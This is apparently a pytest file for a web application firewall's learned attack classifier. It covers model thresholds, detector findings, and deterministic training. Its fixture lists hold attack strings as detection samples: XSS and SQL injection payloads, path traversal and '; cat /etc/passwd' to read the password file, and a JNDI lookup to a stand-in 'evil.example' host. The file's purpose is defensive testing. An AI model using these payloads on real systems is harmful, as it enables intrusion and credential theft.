"""The learned classifier: the shipped model, the detector, and ``siren train``."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from siren.cli import main
from siren.engine import Engine, Policy
from siren.engine.context import Context
from siren.engine.detectors.classifier import ClassifierDetector, Model, load_default_classifier, load_default_model
from siren.engine.engine import default_detectors
from siren.engine.features import features
from siren.engine.limits import Limits
from siren.engine.request import Request
from siren.engine.ruleset import compile_ruleset
from siren.engine.scoring import anomaly_score
from siren.engine.targets import extract_targets
from siren.engine.views import ViewCache
from siren.testing import make_request
from siren.train import Params, train


@pytest.fixture(scope="module")
def model() -> Model:
    m = load_default_model()
    assert m is not None, "src/siren/models/classifier.json is missing"
    return m


def test_shipped_model_and_its_record(model: Model) -> None:
    assert 0 < model.suspect < model.attack < 1
    assert 0 < model.score_suspect < model.score_attack < 5  # never blocks on its own
    assert len(model.weights) > 1000
    meta = model.meta
    assert meta["command"].startswith("siren train --train ")
    assert {f["file"] for f in meta["train_files"]} == {"httpparams.jsonl", "patt.jsonl", "crs.jsonl"}
    assert all(len(f["sha256"]) == 64 for f in meta["train_files"] + meta["test_files"])
    assert not {f["file"] for f in meta["train_files"]} & {f["file"] for f in meta["test_files"]}
    md = Path(str(Path(__file__).resolve().parents[3] / "src/siren/models/classifier.md"))
    assert md.is_file() and meta["command"] in md.read_text(encoding="utf-8")


ATTACKS = [
    ("<script>alert(document.cookie)</script>", "xss"),
    ("<img src=x onerror=alert(1)>", "xss"),
    ("1' union select username, password from users--", "sqli"),
    ("1 and sleep(5)", "sqli"),
    ("../../../../etc/passwd", "lfi"),
    ("; cat /etc/passwd", None),
    ("${jndi:ldap://evil.example/a}", None),
]


@pytest.mark.parametrize(("text", "category"), ATTACKS)
def test_obvious_attacks_score_high(model: Model, text: str, category: str | None) -> None:
    assert model.probability(text) >= model.attack
    if category:
        assert model.category(features(text)) == category


BENIGN = [
    "das ist ein schöner tag, nicht wahr?",
    "東京で美味しいラーメンを食べました。",
    "مرحبا، كيف حالك؟",
    "नमस्ते, आप कैसे हैं?",
    "¿dónde está la estación de tren?",
    "ça coûte 12,50 € (ttc)",
    "select the best option from the list",
    "union station to brooklyn",
    "patrick o'brien",
    "tom & jerry (1940)",
    "what does 1=1 mean in sql",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_scores_below_the_band(model: Model, text: str) -> None:
    assert model.probability(text) < model.suspect


def _ctx(request: Request) -> Context:
    targets = extract_targets(request, Limits()).targets
    return Context(request, targets, ViewCache([t.value for t in targets]), paranoia=2)


def test_detector_emits_one_sub_threshold_finding(model: Model) -> None:
    detector = ClassifierDetector(model)
    assert detector.name == "classifier"
    found = detector.detect(_ctx(make_request("/search?q=%3Csvg%20onload%3Dalert(1)%3E&page=2")))
    assert len(found) == 1
    f = found[0]
    assert (f.detector, f.rule_id, f.category, f.target) == ("classifier", "classifier.attack", "xss", "ARGS:q")
    assert f.score == model.score_attack and anomaly_score(found) < 5
    assert f.fragment == "<svg onload=alert(1)>"
    assert detector.detect(_ctx(make_request("/search?q=red+shoes&page=2"))) == []
    assert detector.detect(_ctx(make_request("/api/reviews", json_body={"text": "Très bon produit (vraiment) !"}))) == []


def test_default_classifier_is_wired() -> None:
    detector = load_default_classifier()
    assert detector is not None and detector.model is load_default_model()
    ruleset = compile_ruleset([], use_cache=False)
    assert [d.name for d in default_detectors(ruleset)][-1] == "classifier"
    assert "classifier" not in [d.name for d in default_detectors(ruleset, classifier=False)]


def test_classifier_alone_never_blocks(model: Model) -> None:
    for paranoia, expected in ((1, 0), (2, model.score_attack), (4, model.score_attack)):
        engine = Engine(compile_ruleset([], use_cache=False), Policy(paranoia=paranoia), detectors=[ClassifierDetector(model)])
        verdict = engine.inspect(make_request("/?q=%27%20union%20select%20password%20from%20users--"))
        assert [f.detector for f in verdict.findings] == ["classifier"]
        assert verdict.score == expected and not verdict.blocked
        assert ("advisory" in verdict.findings[0].message) == (paranoia == 1)


def test_json_round_trip(model: Model) -> None:
    again = Model.from_json(orjson.loads(orjson.dumps(model.to_json())))
    assert again.weights == model.weights and again.bias == model.bias and again.categories == model.categories
    doc = model.to_json()
    doc["feature_version"] = -1
    with pytest.raises(ValueError, match="feature version"):
        Model.from_json(doc)


def test_probability_does_not_depend_on_hash_seed(model: Model) -> None:
    text = "1' union select null,concat(user,0x3a,password) from users-- <img src=x onerror=alert(1)>"
    code = (
        "from siren.engine.detectors.classifier import load_default_model;"
        f"print(repr(load_default_model().probability({text!r})))"
    )
    out = {
        subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                       env={"PYTHONHASHSEED": seed, "PATH": ""}).stdout
        for seed in ("1", "2")
    }
    assert out == {repr(model.probability(text)) + "\n"}


def _line(i: int, label: str, value: str) -> dict[str, object]:
    target = "/search?q=" + value.replace("%", "%25").replace(" ", "%20").replace("&", "%26").replace("#", "%23")
    target = "".join(c if 0x21 <= ord(c) <= 0x7E else f"%{ord(c):02X}" for c in target)
    return {
        "id": f"t-{i}", "source": "t", "label": label, "category": "sqli" if label == "attack" else "benign",
        "method": "GET", "target": target, "headers": [["Host", "localhost"]], "payload": value,
    }


TINY_ATTACKS = ["1' or '1'='1", "' union select 1,2--", "1 and sleep(5)", "<script>alert(1)</script>",
                "../../etc/passwd", "; cat /etc/passwd", "admin'--", "1' or 1=1#"]
TINY_BENIGN = ["red shoes", "o'brien", "tom & jerry (1940)", "select a size", "2 for 1 deal", "new york, ny",
               "order #1234", "the cat sat on the mat"]


def _tiny(tmp_path: Path) -> Path:
    path = tmp_path / "tiny.jsonl"
    rows = [_line(i, "attack", v) for i, v in enumerate(TINY_ATTACKS)]
    rows += [_line(100 + i, "benign", v) for i, v in enumerate(TINY_BENIGN)]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def test_training_is_deterministic_and_learns(tmp_path: Path) -> None:
    path = _tiny(tmp_path)
    params = Params(l2=1e-3, iterations=200, learning_rate=0.1, min_df=1)
    a, summary = train([path], params)
    b, _ = train([path], params)
    assert orjson.dumps(a.to_json()) == orjson.dumps(b.to_json())
    assert summary["attack_examples"] == len(TINY_ATTACKS)
    assert all(a.probability(v) > 0.5 for v in TINY_ATTACKS[:3])
    assert a.probability("hello world") < 0.5


def test_train_command_writes_model_and_record(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    train_file = _tiny(tmp_path)
    test_file = tmp_path / "held.jsonl"
    test_file.write_text(
        json.dumps(_line(1, "attack", "2' or '2'='2")) + "\n" + json.dumps(_line(2, "benign", "blue shirt")) + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "m" / "classifier.json"
    argv = ["train", "--train", str(train_file), "--test", str(test_file), "--out", str(out), "--min-df", "1", "--iterations", "100"]
    assert main(argv) == 0
    first = out.read_bytes()
    printed = capsys.readouterr().out
    assert "held.jsonl" in printed and "attacks flagged" in printed
    m = Model.load(out)
    assert m.meta["test_files"][0]["file"] == "held.jsonl"
    md = out.with_suffix(".md").read_text(encoding="utf-8")
    assert m.meta["train_files"][0]["sha256"] in md and "date (UTC)" in md
    assert main(argv) == 0
    assert out.read_bytes() == first  # byte-identical model file
    assert main(["train", "--train", str(train_file), "--test", str(train_file), "--out", str(out)]) == 2


def test_only_with_evidence_skips_clean_requests(model: Model) -> None:
    from siren.engine.verdict import Finding

    detector = ClassifierDetector(model, only_with_evidence=True)
    ctx = _ctx(make_request("/?q=%3Csvg%20onload%3Dalert(1)%3E"))
    assert detector.detect(ctx) == []
    ctx.findings.append(Finding("signature", "x", "xss", "ARGS:q", "", (), 2))
    assert [f.rule_id for f in detector.detect(ctx)] == ["classifier.attack"]
